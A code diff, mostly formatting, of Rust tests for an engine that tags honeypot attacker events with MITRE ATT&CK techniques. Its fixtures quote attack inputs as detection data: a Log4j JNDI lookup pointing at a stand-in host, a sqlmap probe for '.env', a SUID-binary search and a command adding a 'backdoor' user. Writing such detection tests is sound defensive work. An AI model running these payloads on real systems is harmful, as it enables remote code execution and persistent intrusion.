@@ -25,7 +25,11 @@ fn shared() -> Option<PathBuf> {
 }
 
 fn decnet_snapshot(shared: &Path) -> Snapshot {
-    let loaded = load_dir(&shared.join("reference/decnet-rules"), LoadOptions::default()).unwrap();
+    let loaded = load_dir(
+        &shared.join("reference/decnet-rules"),
+        LoadOptions::default(),
+    )
+    .unwrap();
     assert_eq!(loaded.errors(), 0, "{:#?}", loaded.diagnostics);
     assert_eq!(loaded.rules.len(), 59);
     Snapshot::build(&loaded.rules)
@@ -36,14 +40,26 @@ fn tag(snap: &Snapshot, event: Value) -> Vec<Tag> {
     let mut out = Vec::new();
     snap.tag_event(&ev, &TagConfig::default(), Evaluation::Indexed, &mut out);
     let mut brute = Vec::new();
-    snap.tag_event(&ev, &TagConfig::default(), Evaluation::BruteForce, &mut brute);
+    snap.tag_event(
+        &ev,
+        &TagConfig::default(),
+        Evaluation::BruteForce,
+        &mut brute,
+    );
     let key = |t: &Vec<Tag>| t.iter().map(|t| t.uuid.clone()).collect::<Vec<_>>();
     assert_eq!(key(&out), key(&brute), "index and brute force disagree");
     out
 }
 
 /// (rule, technique, sub, tactic, confidence, uuid)
-type Row = (&'static str, &'static str, Option<&'static str>, &'static str, f64, &'static str);
+type Row = (
+    &'static str,
+    &'static str,
+    Option<&'static str>,
+    &'static str,
+    f64,
+    &'static str,
+);
 
 fn assert_tags(tags: &[Tag], rows: &[Row], evidence: &[Value]) {
     assert_eq!(tags.len(), rows.len(), "{tags:#?}");
@@ -77,15 +93,35 @@ fn e1_command_two_rules_with_aux_fields() {
     assert_tags(
         &tags,
         &[
-            ("R0010", "T1059", Some("T1059.004"), "TA0002", 0.9, "706e10fc-1904-5edd-b654-19ba614d119a"),
-            ("R0011", "T1059", None, "TA0002", 0.7, "e8b8b450-9852-5f31-a0d0-658c8cf90858"),
+            (
+                "R0010",
+                "T1059",
+                Some("T1059.004"),
+                "TA0002",
+                0.9,
+                "706e10fc-1904-5edd-b654-19ba614d119a",
+            ),
+            (
+                "R0011",
+                "T1059",
+                None,
+                "TA0002",
+                0.7,
+                "e8b8b450-9852-5f31-a0d0-658c8cf90858",
+            ),
         ],
         &[json!({"command_text":"/bin/sh -c 'id'","uid":"0","user":"root","src":"10.0.0.5"})],
     );
     assert_eq!(tags[0].session_id.as_deref(), Some("s-1"));
     assert_eq!(tags[0].decky_id.as_deref(), Some("d-1"));
-    assert_eq!(tags[0].mitre_url.as_deref(), Some("https://attack.mitre.org/techniques/T1059/004"));
-    assert_eq!(tags[1].mitre_url.as_deref(), Some("https://attack.mitre.org/techniques/T1059"));
+    assert_eq!(
+        tags[0].mitre_url.as_deref(),
+        Some("https://attack.mitre.org/techniques/T1059/004")
+    );
+    assert_eq!(
+        tags[1].mitre_url.as_deref(),
+        Some("https://attack.mitre.org/techniques/T1059")
+    );
 }
 
 #[test]
@@ -100,9 +136,30 @@ fn e2_multi_emit_and_overlapping_rule() {
     assert_tags(
         &tags,
         &[
-            ("R0015", "T1083", None, "TA0007", 0.85, "b7cadd3d-1be9-5e25-a04f-5cc27d2d0c2e"),
-            ("R0015", "T1548", Some("T1548.001"), "TA0004", 0.95, "b00fd01e-0b46-5d9b-8c2d-2567dc8c4e71"),
-            ("R0016", "T1083", None, "TA0007", 0.65, "cbba843b-bc1b-5c93-8596-fd5695dd7f0c"),
+            (
+                "R0015",
+                "T1083",
+                None,
+                "TA0007",
+                0.85,
+                "b7cadd3d-1be9-5e25-a04f-5cc27d2d0c2e",
+            ),
+            (
+                "R0015",
+                "T1548",
+                Some("T1548.001"),
+                "TA0004",
+                0.95,
+                "b00fd01e-0b46-5d9b-8c2d-2567dc8c4e71",
+            ),
+            (
+                "R0016",
+                "T1083",
+                None,
+                "TA0007",
+                0.65,
+                "cbba843b-bc1b-5c93-8596-fd5695dd7f0c",
+            ),
         ],
         &[json!({"command_text":"find / -perm -u=s -type f 2>/dev/null","pwd":"/tmp"})],
     );
@@ -122,8 +179,22 @@ fn e3_http_request_engine_half() {
     assert_tags(
         &engine,
         &[
-            ("R0007", "T1190", None, "TA0001", 0.9, "e6771dc3-751e-5d96-8f06-1141f9beffc6"),
-            ("R0007", "T1595", Some("T1595.002"), "TA0043", 0.9, "2586ef20-b8aa-5ed9-b30b-7e54e972a2a7"),
+            (
+                "R0007",
+                "T1190",
+                None,
+                "TA0001",
+                0.9,
+                "e6771dc3-751e-5d96-8f06-1141f9beffc6",
+            ),
+            (
+                "R0007",
+                "T1595",
+                Some("T1595.002"),
+                "TA0043",
+                0.9,
+                "2586ef20-b8aa-5ed9-b30b-7e54e972a2a7",
+            ),
         ],
         &[json!({"user_agent":"sqlmap/1.7.2#stable (https://sqlmap.org)","raw_url":"/.env?x=1"})],
     );
@@ -140,7 +211,14 @@ fn e4_log4j_object_evidence_copied_verbatim() {
     );
     assert_tags(
         &tags,
-        &[("R0008", "T1190", None, "TA0001", 0.95, "7f481e62-de4c-58c6-9ce2-0fc3f4e71215")],
+        &[(
+            "R0008",
+            "T1190",
+            None,
+            "TA0001",
+            0.95,
+            "7f481e62-de4c-58c6-9ce2-0fc3f4e71215",
+        )],
         &[json!({"raw_url":"/?q=${jndi:ldap://evil.example/a}","headers":{"X-Api":"1"}})],
     );
 }
@@ -149,7 +227,11 @@ fn e4_log4j_object_evidence_copied_verbatim() {
 fn e18_commands_that_produce_nothing() {
     let Some(sh) = shared() else { return };
     let snap = decnet_snapshot(&sh);
-    for cmd in ["ls\nwhoami", "lsb_release -a", "useradd -m -s /bin/bash backdoor"] {
+    for cmd in [
+        "ls\nwhoami",
+        "lsb_release -a",
+        "useradd -m -s /bin/bash backdoor",
+    ] {
         let tags = tag(
             &snap,
             json!({"source_kind":"command","source_id":"c","attacker_uuid":"a","payload":{"command_text":cmd}}),
@@ -176,7 +258,7 @@ fn corpus_rows_fire_their_pattern_rules() {
     let Some(sh) = shared() else { return };
     let snap = decnet_snapshot(&sh);
     let engine_rules: Vec<String> = snap
-        .index(Lifter::RuleEngine)
+        .rule_index(Lifter::RuleEngine)
         .rules()
         .iter()
         .map(|r| r.rule_id.clone())
